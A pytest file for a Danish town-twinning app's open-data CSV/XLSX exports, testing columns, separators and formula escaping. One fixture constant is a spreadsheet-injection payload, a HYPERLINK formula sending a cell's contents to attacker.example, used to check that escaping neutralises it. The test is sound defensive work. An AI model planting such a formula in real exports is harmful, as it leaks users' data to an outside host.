"""The tables as CSV and XLSX: the column contract, Danish Excel, formula escaping."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from twinning.activities.services import activity_create
from twinning.core.tables import (
    ACTIVITY_COLUMNS,
    PARTNERSHIP_COLUMNS,
    PLACE_COLUMNS,
    RESULT_COLUMNS,
    escape_cell,
    unescape_cell,
)
from twinning.partnerships.models import Partnership
from twinning.results.services import result_create

from .conftest import TABLES, workbook_rows

pytestmark = pytest.mark.django_db

COLUMNS = {
    "partnerships": PARTNERSHIP_COLUMNS,
    "activities": ACTIVITY_COLUMNS,
    "results": RESULT_COLUMNS,
    "places": PLACE_COLUMNS,
}
BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1;"Click me")'


def csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    assert content.startswith(BOM)
    text = content[len(BOM) :].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def same_cell(csv_text: str, value: object) -> bool:
    """Tell whether an XLSX cell holds what the CSV cell says: numbers as numbers."""
    if value is None:
        return csv_text == ""
    if isinstance(value, int | float):
        return Decimal(csv_text) == Decimal(str(value))
    return csv_text == value


@pytest.fixture
def formula_activity(editor, aarhus):
    return activity_create(
        actor=editor,
        municipality=aarhus,
        slug="formula-seminar",
        kind="seminar",
        title_da=FORMULA,
        title_en="+45 ways to say hello",
        purpose_en="@everyone is welcome; -- bring a friend",
        started="2026-06",
        partnership=Partnership.objects.get(slug="bergen"),
        is_public=True,
    )


@pytest.mark.parametrize("table", TABLES)
def test_a_table_is_utf8_with_a_bom_semicolons_and_the_contract_columns(client, table):
    response = client.get(f"/open-data/{table}.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    rows = csv_rows(response.content)
    assert tuple(rows[0]) == COLUMNS[table]
    assert len(rows) > 1
    assert all(len(row) == len(COLUMNS[table]) for row in rows)
    assert b";" in response.content.splitlines()[0]


def test_the_partnerships_table_holds_the_sister_cities_with_partial_dates(client):
    rows = csv_rows(client.get("/open-data/partnerships.csv").content)
    header = rows[0]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}

    bergen = by_id["bergen"]
    assert bergen["started"] == "1946"
    assert bergen["partner_type"] == "place"
    assert bergen["partner_country"] == "NO"
    assert bergen["kind"] == "sister_city"
    assert "culture" in bergen["themes"].split("|")
    assert by_id["saint-petersburg"]["status"] == "terminated"
    assert by_id["saint-petersburg"]["ended"] == "2022-03-09"
    assert by_id["ghana-water"]["partner_type"] == "organisation"
    assert by_id["ghana-water"]["partner_country"] == "GH"
    assert by_id["gothenburg"]["partner_name_da"] == "Göteborg"


@pytest.mark.parametrize("table", TABLES)
def test_sep_comma_gives_the_same_table_separated_by_commas(client, table):
    semicolons = csv_rows(client.get(f"/open-data/{table}.csv").content)
    response = client.get(f"/open-data/{table}.csv?sep=,")

    assert response.status_code == 200
    assert csv_rows(response.content, delimiter=",") == semicolons
    assert response.content.splitlines()[0].count(b",") == len(COLUMNS[table]) - 1


@pytest.mark.parametrize("separator", ["tab", "|", "%09", "", ";;"])
def test_any_other_separator_is_refused_naming_the_parameter(client, separator):
    response = client.get(f"/open-data/partnerships.csv?sep={separator}")

    assert response.status_code == 400
    problem = response.json()
    assert response["Content-Type"] == "application/problem+json"
    assert problem["status"] == 400
    assert "sep" in problem["detail"]
    assert problem["invalid-params"][0]["name"] == "sep"


def test_a_title_that_is_a_formula_is_escaped_in_csv_and_xlsx(client, formula_activity):
    rows = csv_rows(client.get("/open-data/activities.csv").content)
    header = rows[0]
    row = dict(
        zip(header, next(r for r in rows if r[0] == "formula-seminar"), strict=True)
    )

    assert row["title_da"] == "'" + FORMULA
    assert row["title_en"] == "'+45 ways to say hello"
    assert row["purpose_en"] == "'@everyone is welcome; -- bring a friend"
    assert row["started"] == "2026-06"  # dates are never escaped

    sheet = workbook_rows(client.get("/open-data/activities.xlsx").content)
    cells = dict(
        zip(sheet[0], next(r for r in sheet if r[0] == "formula-seminar"), strict=True)
    )
    assert cells["title_da"] == "'" + FORMULA
    workbook = load_workbook(
        io.BytesIO(client.get("/open-data/activities.xlsx").content)
    )
    formulas = [
        cell.coordinate
        for row_cells in workbook.active.iter_rows()
        for cell in row_cells
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_a_negative_value_stays_a_number_that_the_import_can_read(
    client, editor, aarhus
):
    result_create(
        actor=editor,
        municipality=aarhus,
        slug="lost-order",
        kind="business_deal",
        title_en="-1 order: the deal fell through",
        value=Decimal("-1500.50"),
        currency="DKK",
        achieved_on="2024-05",
        is_public=True,
    )

    rows = csv_rows(client.get("/open-data/results.csv").content)
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "lost-order"), strict=True))
    assert row["value"] == "-1500.50"
    assert row["title_en"] == "'-1 order: the deal fell through"
    assert row["achieved_on"] == "2024-05"

    sheet = workbook_rows(client.get("/open-data/results.xlsx").content)
    cells = dict(
        zip(sheet[0], next(r for r in sheet if r[0] == "lost-order"), strict=True)
    )
    assert cells["value"] == -1500.5
    assert cells["currency"] == "DKK"


@pytest.mark.parametrize("table", TABLES)
def test_the_xlsx_holds_the_same_rows_as_the_csv_under_a_bold_frozen_header(
    client, table, formula_activity
):
    csv_table = csv_rows(client.get(f"/open-data/{table}.csv").content)
    response = client.get(f"/open-data/{table}.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == table
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == len(csv_table)
    for xlsx_row, csv_row in zip(rows, csv_table, strict=True):
        assert all(
            same_cell(text, value)
            for text, value in zip(csv_row, xlsx_row, strict=True)
        ), (csv_row, xlsx_row)


def test_places_give_coordinates_as_numbers(client):
    rows = csv_rows(client.get("/open-data/places.csv").content)
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "bergen"), strict=True))

    assert Decimal(row["latitude"]) == Decimal("60.39299")
    assert Decimal(row["longitude"]) == Decimal("5.32415")
    assert row["country"] == "NO"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+45 12 34 56 78",
        "-5",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'=1",
        "''",
        "'s-Hertogenbosch",
        "Aarhus",
        "",
        "'",
        "a=b",
    ],
)
def test_an_escaped_cell_reads_back_as_it_was(text):
    escaped = escape_cell(text)

    assert unescape_cell(escaped) == text
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_name_that_begins_with_an_apostrophe_is_left_as_it_is():
    assert escape_cell("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert escape_cell("=1") == "'=1"
    assert escape_cell("'=1") == "''=1"
